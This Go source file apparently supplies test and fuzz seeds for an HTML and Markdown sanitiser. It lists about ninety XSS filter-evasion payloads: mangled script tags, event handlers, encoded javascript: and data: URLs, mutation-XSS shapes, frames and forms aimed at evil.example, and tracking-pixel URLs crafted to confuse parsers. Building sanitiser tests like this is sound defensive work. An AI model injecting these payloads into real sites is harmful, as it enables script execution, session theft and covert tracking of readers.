package markup

// xssPayloads are inputs that have got script, styles or third-party
// requests past sanitisers before: classic filter-evasion strings, Markdown
// link tricks, mutation-XSS shapes and URLs that look local to one parser
// and remote to another. They seed FuzzHTML too.
func xssPayloads() []string {
	return []string{
		// Script elements, plain and mangled.
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
		`"><script>alert(1)</script>`,
		`<<script>alert(1)//<</script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img """><script>alert(1)</script>">`,
		"```\n</code></pre><script>alert(1)</script>\n```",
		"`<script>alert(1)</script>`",

		// Event handlers.
		`<img src=x onerror=alert(1)>`,
		`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
		`<svg onload=alert(1)>`,
		`<body onload=alert(1)>`,
		`<details open ontoggle=alert(1)>`,
		`<input onfocus=alert(1) autofocus>`,
		`<marquee onstart=alert(1)>`,
		`<x onclick=alert(1)>click`,
		`<div id="x" onpointerenter=alert(1)>x</div>`,
		`<a href="https://evil.example" onclick="alert(1)">x</a>`,
		`<a href="#" onmouseover="alert(1)">x</a>`,
		`<img src="https://news.example.org/ok.png" onload="alert(1)">`,
		`<audio src=x onerror=alert(1)>`,
		`<video><source onerror=alert(1)></video>`,

		// javascript:, vbscript: and data: URLs, in Markdown and in HTML.
		`[x](javascript:alert(1))`,
		`[x](JAVASCRIPT:alert(1))`,
		`[x](<javascript:alert(1)>)`,
		`[x](&#106;avascript:alert(1))`,
		"[x]: javascript:alert(1)\n\n[y][x]",
		`<javascript:alert(1)>`,
		`![x](javascript:alert(1))`,
		`[x](vbscript:msgbox(1))`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		`<a href="&#x6A;avascript:alert(1)">x</a>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
		`<a href="javascript&colon;alert(1)">x</a>`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
		`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
		`<a href=" &#14;  javascript:alert(1)">x</a>`,
		"<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
		`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
		`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`,

		// SVG and MathML, including mutation-XSS shapes.
		`<svg><script>alert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
		`<math href="javascript:alert(1)">CLICK</math>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<textarea><img src=x onerror=alert(1)></textarea>`,
		`<title><img src=x onerror=alert(1)></title>`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`,

		// Styles.
		`<p style="background:url(javascript:alert(1))">x</p>`,
		`<div style="width: expression(alert(1))">x</div>`,
		`<style>body{background:url(https://tracker.example/x)}</style>`,
		`<span style="background-image:url(https://tracker.example/p.gif)">x</span>`,

		// Frames, plugins, forms, document-level elements.
		`<iframe src="https://evil.example/"></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<frameset><frame src="javascript:alert(1)"></frameset>`,
		`<object data="javascript:alert(1)"></object>`,
		`<embed src="https://evil.example/x.swf">`,
		`<applet code="x"></applet>`,
		`<portal src="https://evil.example"></portal>`,
		`<form action="https://evil.example/"><input name=q><button>go</button></form>`,
		`<button formaction="javascript:alert(1)">x</button>`,
		`<isindex action=javascript:alert(1) type=image>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href="https://evil.example/x.css">`,
		`<base href="https://evil.example/">`,

		// Third-party loads that run no script but tell another host who
		// is reading.
		`![tracker](https://tracker.example/pixel.gif)`,
		`![tracker](//tracker.example/pixel.gif)`,
		`<img src="\\tracker.example\pixel.gif">`,
		`<img src="/\tracker.example/pixel.gif">`,
		`<img src="https:\\tracker.example\pixel.gif">`,
		`<img src="https:tracker.example/p.gif">`,
		`<img src="https:///tracker.example/p.gif">`,
		"<img src=\"/\t/tracker.example/p.gif\">",
		`<img src="https://news.example.org@tracker.example/p.gif">`,
		`<img src="https://tracker.example#@news.example.org/p.gif">`,
		`<img src="http://news.example.org.tracker.example/p.gif">`,
		`<img srcset="https://tracker.example/a.png 1x">`,
		`<video poster="https://tracker.example/p.png"></video>`,
		`<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>`,
		`<a href="https://gov.example" ping="https://tracker.example/p">x</a>`,
		`[![x](https://tracker.example/p.gif)](https://gov.example)`,
		"[x]: https://tracker.example/p.gif\n\n![y][x]",
		`www.evil.example/?<script>alert(1)</script>`,
	}
}
